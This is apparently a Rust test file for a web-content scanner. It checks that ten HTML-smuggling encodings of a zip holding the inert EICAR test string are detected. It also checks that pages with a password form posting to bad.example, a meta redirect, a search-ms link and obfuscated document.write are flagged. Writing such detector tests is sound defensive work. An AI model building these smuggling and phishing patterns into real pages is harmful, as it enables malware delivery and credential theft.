//! Small pages made here.

use base64::Engine as _;

use super::super::tests::{codes, examine, policy};
use crate::inspect::inspector::Examiner;

fn coded(data: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(data)
}

/// A stored zip with the test virus in it.
fn archive() -> Vec<u8> {
    let eicar = concat!("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR", "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").as_bytes();
    let mut zip = b"PK\x03\x04\x14\0\0\0\0\0\0\0\0\0\0\0\0\0".to_vec();
    for length in [eicar.len() as u32, eicar.len() as u32] {
        zip.extend_from_slice(&length.to_le_bytes());
    }
    zip.extend_from_slice(&[5, 0, 0, 0]);
    zip.extend_from_slice(b"a.exe");
    zip.extend_from_slice(eicar);
    zip
}

#[test]
fn a_file_put_together_by_a_page_is_taken_out_in_every_spelling() {
    let policy = policy();
    let loaded = policy.open(None).unwrap();
    let examiner = Examiner::new(&loaded);
    let (zip, text) = (archive(), coded(&archive()));
    let backwards: String = text.chars().rev().collect();
    let pieces = text
        .as_bytes()
        .chunks(20)
        .map(|c| format!("'{}'", String::from_utf8_lossy(c)))
        .collect::<Vec<_>>()
        .join(" + \n");
    let numbers = zip.iter().map(u8::to_string).collect::<Vec<_>>().join(", ");
    let hex: String = zip.iter().map(|b| format!("{b:02x}")).collect();
    let escapes: String = zip.iter().map(|b| format!("\\x{b:02x}")).collect();
    for (i, page) in [
        format!("<script>var b=new Blob([atob('{text}')]);a.href=URL.createObjectURL(b);a.click()</script>"),
        format!("<script>var d={pieces};save(d)</script>"),
        format!("<script>var d='{backwards}'.split('').reverse().join('')</script>"),
        format!("<script>var d=new Uint8Array([{numbers}])</script>"),
        format!("<script>var d='{hex}'</script>"),
        format!("<script>var d='{escapes}'</script>"),
        format!("<a download=x.zip href='data:application/zip;base64,{text}'>x</a>"),
        format!("<div hidden id=d>{text}</div><script>f(d)</script>"),
        format!("<svg xmlns='http://www.w3.org/2000/svg'><script>var d='{text}'</script></svg>"),
        format!("<iframe srcdoc=\"&lt;a href='data:application/zip;base64,{text}'&gt;x&lt;/a&gt;\"></iframe>"),
    ]
    .iter()
    .enumerate()
    {
        let found = codes(&examine(&examiner, "a.html", "text/html", page.as_bytes()));
        for code in ["malware.eicar", "html.smuggling"] {
            assert!(found.iter().any(|c| c == code), "{i}: no {code} in {found:?}");
        }
    }
}

#[test]
fn pages_that_ask_or_lead_away_are_told_from_ordinary_ones() {
    let policy = policy();
    let loaded = policy.open(None).unwrap();
    let examiner = Examiner::new(&loaded);
    let cases: [(&str, &str, &[&str], &[&str]); 8] = [
        ("a.html", "<form action='http://bad.example/p'><input type=password></form>", &["html.password-form"], &[]),
        ("b.html", "<meta http-equiv=refresh content='0;url=http://bad.example/'>", &["html.redirect"], &[]),
        ("c.html", "<a href='data:text/html,<script>alert(1)</script>'>x</a>", &["html.data-page"], &[]),
        ("d.svg", "<svg><script>location='http://bad.example/'</script></svg>", &["svg.active"], &[]),
        ("e.html", "<a href='search-ms:query=x&crumb=location:\\\\bad.example\\x'>x</a>", &["html.local-program"], &[]),
        (
            "f.html",
            "<script>document.write(unescape('%3Cform%20action%3Dhttp%3A//bad.example/%3E'))</script>",
            &["html.obfuscated"],
            &[],
        ),
        (
            "g.html",
            "<html><style>p{background:url(data:image/png;base64,iVBORw0KGgo=)}</style><p>text<a href='https://good.example/a'>x</a><script>var x=1</script></html>",
            &[],
            &["html.", "svg."],
        ),
        ("h.svg", "<svg><path d='M0 0'/><a href='https://good.example/'/></svg>", &[], &["html.", "svg."]),
    ];
    for (name, page, wanted, unwanted) in cases {
        let facts = examine(&examiner, name, "application/octet-stream", page.as_bytes());
        let found = codes(&facts);
        for code in wanted {
            assert!(found.iter().any(|c| c == code), "{name}: no {code} in {found:?}");
        }
        for code in unwanted {
            assert!(!found.iter().any(|c| c.starts_with(code)), "{name}: {code} in {found:?}");
        }
    }
}
